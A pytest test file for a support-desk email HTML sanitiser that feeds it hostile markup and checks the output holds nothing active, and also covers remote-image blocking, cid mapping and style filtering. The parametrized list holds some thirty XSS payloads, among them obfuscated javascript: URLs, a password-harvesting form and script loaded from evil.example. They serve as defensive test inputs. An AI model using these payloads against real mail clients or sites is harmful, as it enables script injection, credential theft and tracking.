"""HTML sanitising against hostile mail."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from supportdesk.channels.email.sanitize import (
    REMOTE_IMAGE_PLACEHOLDER,
    clean_style,
    sanitize_html,
)

SAFE_URL = re.compile(r"(https?:|mailto:|tel:|#|$)")


class ActiveContent(HTMLParser):
    """Collects anything in sanitised output that could run, load or submit."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") or name in ("srcset", "background", "action", "formaction"):
                self.found.append(f"{tag} {name}")
            raster = name == "src" and text.startswith(("data:image/png", "data:image/gif"))
            if name in ("href", "src") and not raster and not SAFE_URL.match(text):
                self.found.append(f"{tag} {name}={text[:30]}")
            if name == "style" and re.search(r"url\(|expression|@import|\\", text):
                self.found.append(f"style={text[:30]}")


def active_content(html: str) -> list[str]:
    """Tags and attributes in ``html`` that a renderer could act on."""
    checker = ActiveContent()
    checker.feed(html)
    checker.close()
    return checker.found


def clean(html: str, *, allow_remote: bool = False, cid_map: dict[str, str] | None = None) -> str:
    return sanitize_html(html, allow_remote=allow_remote, cid_map=cid_map or {}).html


FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link",
    "style", "svg", "math", "frame", "frameset", "applet", "textarea", "select", "video", "audio",
}  # fmt: skip


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<img src=x onerror="alert(1)">',
        '<body onload="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<iframe src="https://evil.example"></iframe>',
        '<object data="evil.swf"></object><embed src="evil.swf">',
        '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<p style="background:url(https://track.example/p.gif)">x</p>',
        '<p style="width: expression(alert(1))">x</p>',
        '<p style="behavior: url(x.htc)">x</p>',
        '<p style="background: u\\72l(https://track.example)">x</p>',
        "<style>@import 'https://evil.example/x.css'; body{background:url(x)}</style>",
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://e">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<<script>script>alert(1)<</script>/script>",
        '<img src="javascript:alert(1)">',
        '<img src="data:text/html,<script>alert(1)</script>">',
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<table background="https://track.example/bg.gif"><tr><td>x</td></tr></table>',
        '<img srcset="https://track.example/a.png 2x">',
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
)
def test_nasty_payloads_are_defused(payload: str) -> None:
    result = clean(payload)
    assert active_content(result) == [], result


def test_remote_images_are_blocked_and_counted() -> None:
    html = (
        '<img src="https://track.example/p.gif" width="1">'
        '<img src="//cdn.example/logo.png" alt="Logo">'
    )
    blocked = sanitize_html(html, allow_remote=False, cid_map={})
    assert blocked.blocked_remote == 2
    assert blocked.html.count(REMOTE_IMAGE_PLACEHOLDER) == 2
    assert "track.example" not in blocked.html and 'alt="Logo"' in blocked.html
    allowed = sanitize_html(html, allow_remote=True, cid_map={})
    assert allowed.blocked_remote == 0
    assert 'src="https://track.example/p.gif"' in allowed.html
    assert 'src="https://cdn.example/logo.png"' in allowed.html


def test_cid_images_map_to_local_uris() -> None:
    html = '<img src="cid:Logo.1@Example.com"><img src="cid:missing@x"><img src="cid:bad@x">'
    result = sanitize_html(
        html,
        allow_remote=False,
        cid_map={"<logo.1@example.com>": "file:///cache/ab12.png", "bad@x": "javascript:alert(1)"},
    )
    assert result.html == '<img src="file:///cache/ab12.png"><img><img>'
    assert result.blocked_remote == 0


def test_data_images_only_raster() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert clean(f'<img src="{png}">') == f'<img src="{png}">'
    assert clean('<img src="data:image/svg+xml;base64,AAAA">') == "<img>"
    assert (
        clean('<a href="data:image/png;base64,AAAA">x</a>') == '<a rel="noopener noreferrer">x</a>'
    )


def test_links_keep_safe_targets_and_get_rel() -> None:
    html = (
        '<a href="https://example.com/a?b=1" target="_blank">w</a>'
        '<a href="mailto:x@example.com">m</a>'
        '<a href="tel:+4930123">t</a><a href="#part2">i</a><a href="relative/x">r</a>'
    )
    assert clean(html) == (
        '<a href="https://example.com/a?b=1" rel="noopener noreferrer">w</a>'
        '<a href="mailto:x@example.com" rel="noopener noreferrer">m</a>'
        '<a href="tel:+4930123" rel="noopener noreferrer">t</a>'
        '<a href="#part2" rel="noopener noreferrer">i</a>'
        '<a rel="noopener noreferrer">r</a>'
    )


def test_styles_keep_presentation_only() -> None:
    assert clean_style("color: red; font-size: 12px; position: fixed; z-index: 9") == (
        "color: red; font-size: 12px"
    )
    assert clean_style("background: url(x); background-color: #fff") == "background-color: #fff"
    assert clean_style("color: red; @import 'x'") == ""
    assert clean_style("color: re\\64") == ""
    assert clean_style("color: red /* hi */") == ""


def test_ordinary_newsletter_html_survives() -> None:
    html = (
        '<table width="600" cellpadding="0" bgcolor="#ffffff">'
        '<tr><td align="center" style="padding: 8px">'
        '<font color="#333" face="Arial">Hello <b>there</b></font></td></tr></table>'
        "<style>.x{color:red}</style><p>Bye</p>"
    )
    result = clean(html)
    assert '<table width="600" cellpadding="0" bgcolor="#ffffff">' in result
    assert '<td align="center" style="padding: 8px">' in result
    assert '<font color="#333" face="Arial">Hello <b>there</b></font>' in result
    assert result.endswith("<p>Bye</p>") and ".x{" not in result


_fragments = st.sampled_from(
    [
        "<", ">", "script", "img", " src=", " onerror=", "javascript:", "jav\tascript:",
        '"', "'", "a href=", "style=", "url(", "expression(", "</", "=", "x", "<svg", "<!--",
        "-->", "&#x3C;", "data:", "text/html,", "cid:", "http://e/", " ", "\n", "/",
    ]
)  # fmt: skip


@settings(database=None, max_examples=400, deadline=None)
@given(st.lists(_fragments, max_size=40).map("".join))
def test_generated_markup_never_yields_active_content(html: str) -> None:
    result = sanitize_html(html, allow_remote=True, cid_map={}).html
    assert active_content(result) == [], result
